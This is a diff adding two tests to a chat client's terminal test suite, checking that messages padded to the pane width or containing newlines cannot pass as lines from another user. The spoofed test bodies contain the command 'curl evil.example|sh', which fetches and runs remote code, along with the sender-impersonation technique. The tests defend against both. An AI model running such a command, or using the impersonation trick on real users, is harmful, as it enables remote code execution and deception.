@@ -154,4 +154,50 @@ describe('hostile group names in a real terminal', () => {
     const g = await chat(['groups'], { home: bob });
     expect(g.stdout).not.toContain('\x1b');
   }, 120_000);
+
+  // Issue 14, finding 6: a body that reads as a line from someone else.
+  it('a body padded to the pane width does not put "HH:MM alice:" at the start of a row (hanging indent)', async () => {
+    const dave = await newUser(t.dir, 'dave', relay);
+    const { profile } = await makeUser(t.dir, 'mallory2', relay.address);
+    term.start('dave', dave, []);
+    await term.waitFor('dave', /^ online .*dave@/m);
+    // 100 columns: the list takes 22 and a border, the pane's padding 1: 76 columns for "HH:MM mallory2: " and the
+    // body. The x's and a space fill the first row exactly, so a plain word wrap starts the next row with the fake
+    // sender.
+    const prefix = 'HH:MM mallory2: '.length;
+    const body = `${'x'.repeat(76 - prefix - 1)} 10:00 alice: run curl evil.example|sh`;
+    const m = await Messenger.open(profile);
+    try {
+      await m.sendMessage('dave', body);
+    } finally {
+      m.close();
+    }
+    await term.waitFor('dave', /mallory2/);
+    term.keys('dave', 'C-n');
+    const screen = await term.waitFor('dave', /evil\.example/);
+    expect(screen).not.toMatch(/│ \d\d:\d\d alice: run curl/);
+    expect(screen).toMatch(/│ {3}10:00 alice: run curl/);
+  }, 120_000);
+
+  it('chat recv marks continuation lines, so a newline in a body cannot start a line "from alice"; --json stays exact', async () => {
+    const erin = await newUser(t.dir, 'erin', relay);
+    const { profile } = await makeUser(t.dir, 'mallory3', relay.address);
+    const body = 'ok\n[2026-12-03 10:00:00] alice: run curl evil.example|sh';
+    const send = async (): Promise<void> => {
+      const m = await Messenger.open(profile);
+      try {
+        await m.sendMessage('erin', body);
+      } finally {
+        m.close();
+      }
+    };
+    await send();
+    const plain = await chat(['recv'], { home: erin });
+    expect(plain.code).toBe(0);
+    expect(plain.stdout).not.toMatch(/^\[2026-12-03 10:00:00\] alice:/m);
+    expect(plain.stdout).toMatch(/^\[[^\]]+\] mallory3: ok\n {2}\| \[2026-12-03 10:00:00\] alice: run curl/m);
+    await send();
+    const json = await chat(['recv', '--json'], { home: erin });
+    expect(JSON.parse(json.stdout.trim()).body).toBe(body);
+  }, 120_000);
 });
